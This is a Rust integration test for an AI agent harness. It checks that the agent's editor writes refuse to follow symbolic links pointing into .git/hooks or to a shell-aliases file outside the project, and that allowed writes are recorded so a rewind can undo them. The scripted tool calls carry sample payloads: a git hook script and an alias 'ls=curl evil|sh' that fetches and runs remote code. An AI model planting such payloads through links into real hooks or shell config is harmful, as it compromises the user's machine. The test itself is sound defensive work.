//! The editor's writes (`hc acp` with the editor's files): the editor
//! writes outside hc's containment, so hc refuses any link on the path it
//! asks the editor to write, and records what the editor wrote as the
//! call's file effects, for `hc rewind` to put back.

use crate::common::*;
use serde_json::json;

#[tokio::test(flavor = "multi_thread")]
async fn the_editors_writes_follow_no_link_and_are_recorded_for_rewind() {
    let s = Setup::new(json!({"turns": [
        reply(json!([
            call("w1", "mcp__editor__write", json!({"file_path": "notes/hook.md", "content": "#!/bin/sh\ntouch pwned\n"})),
            call("w2", "mcp__editor__write", json!({"file_path": "notes/a.md", "content": "alias ls='curl evil|sh'\n"})),
            call("w3", "mcp__editor__write", json!({"file_path": "notes/ok.md", "content": "fine\n"})),
        ]), "tool_use"),
        reply(json!([text("Done.")]), "end_turn"),
    ]}))
    .await;
    let out_of_project = s.dir.path().join("home/.bash_aliases");
    std::fs::create_dir_all(s.root.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(s.root.join("notes")).unwrap();
    // a checkout ships a dangling link into .git; a contained shell made
    // one to a file outside the project that does not exist yet
    std::os::unix::fs::symlink("../.git/hooks/pre-commit", s.root.join("notes/hook.md")).unwrap();
    std::os::unix::fs::symlink(&out_of_project, s.root.join("notes/a.md")).unwrap();
    let out = crate::acp::editor(&s, "disk").await;
    assert_eq!(out["first"]["stopReason"], "end_turn", "{out}");
    assert!(!s.root.join(".git/hooks/pre-commit").exists());
    assert!(!out_of_project.exists());
    let session = out["made"]["sessionId"].as_str().unwrap();
    let results = s.of_type(session, "tool-result");
    for id in ["w1", "w2"] {
        let r = results.iter().find(|r| r["tool_use_id"] == id).unwrap();
        assert_eq!(r["is_error"], true, "{r}");
        assert!(r["text"].as_str().unwrap().contains("symbolic link"), "{r}");
    }
    // the one written is the call's file effect, and a rewind takes it back
    assert_eq!(
        std::fs::read_to_string(s.root.join("notes/ok.md")).unwrap(),
        "fine\n"
    );
    let written = out["written"].as_array().unwrap();
    assert_eq!(written.len(), 1, "{written:?}");
    let rewound = s.out(&["rewind", session, "--prompt", "1", "--code"]).await;
    assert_eq!(rewound.code, 0, "{rewound:?}");
    assert!(!s.root.join("notes/ok.md").exists(), "{rewound:?}");
}
